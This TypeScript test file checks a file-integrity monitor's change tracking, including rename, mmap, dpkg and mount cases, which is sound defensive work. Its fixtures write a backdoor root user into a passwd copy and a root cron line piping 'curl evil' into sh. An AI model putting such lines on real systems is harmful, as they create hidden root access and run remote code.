import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { mkdirSync, mkdtempSync, renameSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { openStateTracking, touchedPaths } from '../../../src/agent/stateTracking.js';
import { DEFAULT_STATE_CONFIG } from '../../../src/state/stateConfig.js';
import { fileEvent, ptraceEvent, recordingNotices, recordingOutput } from '../../fixtures/agent/fakes.js';
import { processInfo } from '../../fixtures/process/processFixtures.js';

/** State tracking over a database in dir, for the baseline paths given. */
function trackingOf(dir: string, baseline: string[], over: Partial<Parameters<typeof openStateTracking>[0]> = {}) {
  const output = recordingOutput();
  const notices = recordingNotices();
  const tracking = openStateTracking({
    dbPath: join(dir, 'db', 'state.db'),
    config: { ...DEFAULT_STATE_CONFIG, baseline },
    output,
    notices,
    nowRfc3339: () => 'now',
    showProgress: false,
    ...over,
  });
  return { tracking, output, notices };
}

test('touchedPaths: content-changing file events only, both names of a rename, never a null path', () => {
  assert.equal(touchedPaths(fileEvent()), ['/etc/passwd']);
  assert.equal(touchedPaths(fileEvent({ operation: 'rename', path: { text: '/etc/passwd' }, oldPath: { text: '/etc/passwd+' } })), ['/etc/passwd', '/etc/passwd+']);
  assert.equal(touchedPaths(fileEvent({ operation: 'open', touchesContent: false })), []);
  assert.equal(touchedPaths(fileEvent({ path: null, pathSource: 'unknown' })), []);
  assert.equal(touchedPaths(ptraceEvent()), []);
});

test('a baseline file changed after start gives one change line; an event without a path is ignored', async () => {
  const dir = mkdtempSync(join(tmpdir(), 'lsmwatch-state-'));
  try {
    const watched = join(dir, 'passwd');
    writeFileSync(watched, 'root:x:0:0:root:/root:/bin/bash\n');
    const output = recordingOutput();
    const notices = recordingNotices();
    const tracking = openStateTracking({
      dbPath: join(dir, 'db', 'state.db'),
      config: { ...DEFAULT_STATE_CONFIG, baseline: [watched] },
      output,
      notices,
      nowRfc3339: () => 'now',
      showProgress: false,
    });
    await tracking.start();
    assert.equal(output.records.map((r) => r.type), ['baseline']);
    assert.is(output.records[0]!.files, 1);
    tracking.consume(fileEvent({ path: null, pathSource: 'unknown' })); // must not throw
    writeFileSync(watched, 'root:x:0:0:root:/root:/bin/bash\nevil:x:0:0::/:/bin/sh\n');
    tracking.consume(fileEvent({ path: { text: watched }, process: processInfo({ pid: 7, tid: 7, comm: { text: 'useradd' }, loginUid: 1000, loginUser: 'alice', sessionId: 3 }, { exe: { text: '/usr/sbin/useradd' }, ancestors: [{ pid: 6, comm: 'sudo', exe: '/usr/bin/sudo' }] }) }));
    const end = Date.now() + 5000;
    while (!output.records.some((r) => r.type === 'change') && Date.now() < end) await new Promise((r) => setTimeout(r, 50));
    const change = output.records.find((r) => r.type === 'change');
    assert.ok(change, 'a change line');
    assert.is(change.path, watched);
    assert.is(change.action, 'modified');
    const by = change.by as Record<string, unknown>;
    assert.equal([by.pid, by.comm, by.uid, by.exe, by.login_user, by.session_id], [7, 'useradd', 0, '/usr/sbin/useradd', 'alice', 3]);
    assert.equal(by.ancestors, [{ pid: 6, comm: 'sudo', exe: '/usr/bin/sudo' }], 'the history keeps the ancestry');
    assert.ok(
      notices.lines.some((l) => l === `warn: change: ${watched} modified: /usr/sbin/useradd (pid 7) by alice via sudo, session 3`),
      notices.lines.join('\n'),
    );
    await tracking.stop();
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test('a baseline file mapped shared and writable is compared again later: stores made after the first comparison give the change', async () => {
  const dir = mkdtempSync(join(tmpdir(), 'lsmwatch-state-'));
  try {
    const watched = join(dir, 'passwd');
    writeFileSync(watched, 'alice:x:1000:1000::/home/alice:/bin/sh\n');
    const { tracking, output } = trackingOf(dir, [watched]);
    await tracking.start();
    // the mapping process is this one (alive all along): the stores come after the settle comparison
    const mapper = processInfo({ pid: process.pid, tid: process.pid, comm: { text: 'mapper' } });
    tracking.consume(fileEvent({ operation: 'mmap', path: { text: watched }, process: mapper, mapping: { prot: ['read', 'write'], flags: ['shared'] } }));
    await new Promise((r) => setTimeout(r, 1500));
    assert.not.ok(output.records.some((r) => r.type === 'change'), 'nothing changed yet');
    writeFileSync(watched, 'alice:x:0000:0000::/home/alice:/bin/sh\n'); // what the stores would do
    const end = Date.now() + 10_000;
    while (!output.records.some((r) => r.type === 'change') && Date.now() < end) await new Promise((r) => setTimeout(r, 50));
    const change = output.records.find((r) => r.type === 'change');
    assert.ok(change, 'a change line from a later comparison');
    assert.is((change.by as Record<string, unknown>).comm, 'mapper');
    await tracking.stop();
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test("a file replaced by a process dpkg runs: the change's by names the package manager, and the same bytes are content_changed false", async () => {
  const dir = mkdtempSync(join(tmpdir(), 'lsmwatch-state-'));
  try {
    const watched = join(dir, 'tool');
    writeFileSync(watched, 'binary\n');
    const { tracking, output } = trackingOf(dir, [watched], { ownerOf: async () => 'ninja-build' });
    await tracking.start();
    writeFileSync(join(dir, 'tool.new'), 'binary\n');
    renameSync(join(dir, 'tool.new'), watched);
    const dpkg = processInfo({ pid: 40, comm: { text: 'dpkg' } }, { exe: { text: '/usr/bin/dpkg' }, ancestors: [{ pid: 30, comm: 'apt-get', exe: '/usr/bin/apt-get' }] });
    tracking.consume(fileEvent({ operation: 'rename', path: { text: watched }, oldPath: { text: join(dir, 'tool.new') }, process: dpkg }));
    const end = Date.now() + 5000;
    while (!output.records.some((r) => r.type === 'change') && Date.now() < end) await new Promise((r) => setTimeout(r, 50));
    const change = output.records.find((r) => r.type === 'change');
    assert.ok(change, 'a change line');
    assert.equal([change.action, change.content_changed, change.package], ['replaced', false, 'ninja-build']);
    assert.is((change.by as Record<string, unknown>).package_manager, 'dpkg');
    await tracking.stop();
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test('reconfigure: newly covered paths are hashed in the background (progress while it runs), then a baseline line', async () => {
  const dir = mkdtempSync(join(tmpdir(), 'lsmwatch-state-'));
  try {
    const first = join(dir, 'passwd');
    writeFileSync(first, 'root:x:0:0:root:/root:/bin/bash\n');
    const added = join(dir, 'app');
    mkdirSync(added);
    for (let i = 0; i < 50; i++) writeFileSync(join(added, `f${i}`), `file ${i}\n`);
    const output = recordingOutput();
    const tracking = openStateTracking({ dbPath: join(dir, 'db', 'state.db'), config: { ...DEFAULT_STATE_CONFIG, baseline: [first] }, output, notices: recordingNotices(), nowRfc3339: () => 'now', showProgress: false });
    await tracking.start();
    assert.is(tracking.scanProgress(), null);
    const scan = tracking.reconfigure({ ...DEFAULT_STATE_CONFIG, baseline: [first, added] });
    assert.ok(tracking.scanProgress() !== null, 'a scan in progress is visible');
    await scan;
    assert.is(tracking.scanProgress(), null);
    const last = output.records.at(-1)!;
    assert.equal([last.type, last.files, last.reload, last.changes], ['baseline', 51, true, 0]);
    assert.is(output.records.filter((r) => r.type === 'change').length, 0, 'new paths are recorded silently');
    await tracking.stop();
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test('a mount on a baseline directory re-checks the whole baseline: changes name the mounter and recheck mount; a remount does not', async () => {
  const dir = mkdtempSync(join(tmpdir(), 'lsmwatch-state-'));
  try {
    const cron = join(dir, 'cron.d');
    mkdirSync(cron);
    writeFileSync(join(cron, 'job'), '* * * * * root true\n');
    const output = recordingOutput();
    const tracking = openStateTracking({
      dbPath: join(dir, 'db', 'state.db'),
      config: { ...DEFAULT_STATE_CONFIG, baseline: [cron + '/'] },
      output,
      notices: recordingNotices(),
      nowRfc3339: () => 'now',
      showProgress: false,
    });
    await tracking.start();
    const mounter = processInfo({ pid: 9, tid: 9, comm: { text: 'mount' } });
    const mountEvent = (kind: 'new' | 'remount' | 'bind', sourceWatched = false) =>
      fileEvent({ operation: 'mount', path: { text: cron }, mode: 0o040755, process: mounter, mount: { kind, flags: [], fstype: 'tmpfs', source: { text: 'x' }, beforeOp: false, sourceWatched } });
    // what a tmpfs over the directory shows instead (no event reaches the tracker for it)
    writeFileSync(join(cron, 'job'), '* * * * * root curl evil | sh\n');
    tracking.consume(mountEvent('remount'));
    tracking.consume(mountEvent('bind', true));
    await new Promise((r) => setTimeout(r, 700));
    assert.not.ok(output.records.some((r) => r.type === 'change'), 'a remount shows the same files, a watched tree bound elsewhere changes no watched name');
    tracking.consume(mountEvent('new'));
    const end = Date.now() + 5000;
    while (!output.records.some((r) => r.type === 'change') && Date.now() < end) await new Promise((r) => setTimeout(r, 50));
    const change = output.records.find((r) => r.type === 'change');
    assert.ok(change, 'a change line from the re-check');
    assert.equal([change.path, change.action, change.recheck, (change.by as Record<string, unknown>).pid], [join(cron, 'job'), 'modified', 'mount', 9]);
    await tracking.stop();
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test.run();
